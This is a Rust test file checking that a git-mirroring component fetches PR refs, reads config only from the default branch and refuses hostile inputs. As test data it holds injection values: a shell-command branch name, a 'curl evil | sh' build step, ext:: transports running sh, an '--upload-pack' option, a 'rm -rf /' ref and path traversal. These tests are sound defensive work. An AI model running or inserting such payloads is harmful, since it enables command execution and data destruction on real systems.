//! Git mirrors against real repositories on disk: a bare repository is the PR's "remote".

use std::path::Path;
use std::process::Command;

use endor::forge::ForgeKind;
use endor::git::GitMirrors;

fn sh_git(dir: &Path, args: &[&str]) -> String {
    let out = Command::new("git")
        .current_dir(dir)
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.com",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// A bare remote with `main` (holding .endor.toml), a PR published as refs/pull/7/head, and
/// a branch whose name is a shell command. Returns (remote dir, PR head sha).
fn remote(dir: &Path) -> (std::path::PathBuf, String) {
    let bare = dir.join("remote.git");
    let work = dir.join("work");
    std::fs::create_dir_all(&work).unwrap();
    sh_git(dir, &["init", "--quiet", "--bare", bare.to_str().unwrap()]);
    sh_git(&work, &["init", "--quiet"]);
    std::fs::write(work.join(".endor.toml"), "[preview]\nroot = \"public\"\n").unwrap();
    std::fs::create_dir_all(work.join("public")).unwrap();
    std::fs::write(work.join("public/index.html"), "main").unwrap();
    sh_git(&work, &["add", "-A"]);
    sh_git(&work, &["commit", "--quiet", "-m", "main"]);
    sh_git(&work, &["push", "--quiet", bare.to_str().unwrap(), "main"]);
    sh_git(&work, &["checkout", "--quiet", "-b", "$(touch${IFS}pwned)"]);
    std::fs::write(work.join("public/index.html"), "pr 7").unwrap();
    // A PR head may try to change the config: it must never be read from here.
    std::fs::write(
        work.join(".endor.toml"),
        "[preview]\nbuild = [\"curl evil | sh\"]\n",
    )
    .unwrap();
    sh_git(&work, &["commit", "--quiet", "-am", "pr"]);
    let sha = sh_git(&work, &["rev-parse", "HEAD"]);
    sh_git(
        &work,
        &[
            "push",
            "--quiet",
            bare.to_str().unwrap(),
            "HEAD:refs/heads/$(touch${IFS}pwned)",
            "HEAD:refs/pull/7/head",
        ],
    );
    (bare, sha)
}

const CONN: &str = "01a1f3e6-0000-7000-8000-0000000000aa";

#[tokio::test]
async fn mirror_fetch_read_config_and_checkout() {
    let d = tempfile::tempdir().unwrap();
    let (bare, sha) = remote(d.path());
    let url = format!("file://{}", bare.display());
    let mirrors = GitMirrors::new(d.path().join("mirrors"));
    let refs = vec![ForgeKind::Github.pr_ref(7)];
    let default = mirrors.fetch(CONN, &url, &refs).await.unwrap();
    assert_eq!(default, "main");

    // The config comes from the default branch, not the PR head.
    let main_sha = mirrors
        .resolve(CONN, &format!("refs/heads/{default}"))
        .await
        .unwrap();
    let cfg = mirrors
        .read_file(CONN, &main_sha, ".endor.toml")
        .await
        .unwrap()
        .unwrap();
    assert!(
        String::from_utf8(cfg)
            .unwrap()
            .contains("root = \"public\"")
    );
    assert!(
        mirrors
            .read_file(CONN, &main_sha, "missing.toml")
            .await
            .unwrap()
            .is_none()
    );
    assert_eq!(
        mirrors.resolve(CONN, "refs/pull/7/head").await.unwrap(),
        sha
    );

    let site = d.path().join("site-checkout");
    mirrors.checkout(CONN, &sha, &site).await.unwrap();
    assert_eq!(
        std::fs::read_to_string(site.join("public/index.html")).unwrap(),
        "pr 7"
    );
    assert!(!site.join(".git").exists(), "a checkout is a plain tree");
    assert!(
        mirrors.checkout(CONN, &sha, &site).await.is_err(),
        "an existing directory is refused"
    );

    // A second fetch reuses the mirror (fetch, never re-clone) and sees new commits.
    let mirror = mirrors.mirror(CONN).unwrap();
    let marker = mirror.join("endor-marker");
    std::fs::write(&marker, "kept").unwrap();
    mirrors.fetch(CONN, &url, &refs).await.unwrap();
    assert!(marker.exists(), "the mirror was re-created");
    assert!(
        !d.path().join("pwned").exists() && !Path::new("pwned").exists(),
        "a branch name ran as a command"
    );
}

#[tokio::test]
async fn hostile_inputs_are_refused() {
    let d = tempfile::tempdir().unwrap();
    let (bare, _) = remote(d.path());
    let mirrors = GitMirrors::new(d.path().join("mirrors"));
    let url = format!("file://{}", bare.display());
    // Transports that run commands are not allowed, whatever the URL says.
    let ext = format!("ext::sh -c touch% {}", d.path().join("pwned-ext").display());
    assert!(mirrors.fetch(CONN, &ext, &[]).await.is_err());
    assert!(
        mirrors
            .fetch(CONN, "ext::sh%-c%touch%/tmp/endor-pwned-ext", &[])
            .await
            .is_err()
    );
    assert!(!d.path().join("pwned-ext").exists() && !Path::new("/tmp/endor-pwned-ext").exists());
    assert!(
        mirrors
            .fetch(CONN, "--upload-pack=touch /tmp/x", &[])
            .await
            .is_err()
    );
    assert!(
        mirrors
            .fetch(CONN, &url, &["refs/pull/1/head; rm -rf /".to_string()])
            .await
            .is_err()
    );
    assert!(mirrors.fetch("../../etc", &url, &[]).await.is_err());
    mirrors.fetch(CONN, &url, &[]).await.unwrap();
    for bad in ["HEAD", "--output=/tmp/x", "$(touch pwned)", ""] {
        assert!(
            mirrors
                .checkout(CONN, bad, &d.path().join("x"))
                .await
                .is_err(),
            "{bad}"
        );
        assert!(
            mirrors.read_file(CONN, bad, ".endor.toml").await.is_err(),
            "{bad}"
        );
    }
    assert!(mirrors.resolve(CONN, "--all").await.is_err());
    assert!(
        mirrors
            .resolve(CONN, "refs/heads/$(touch${IFS}pwned)")
            .await
            .is_err()
    );
    // An unknown commit is an error, not a panic or an empty tree.
    assert!(
        mirrors
            .checkout(CONN, &"ab".repeat(20), &d.path().join("y"))
            .await
            .is_err()
    );
}
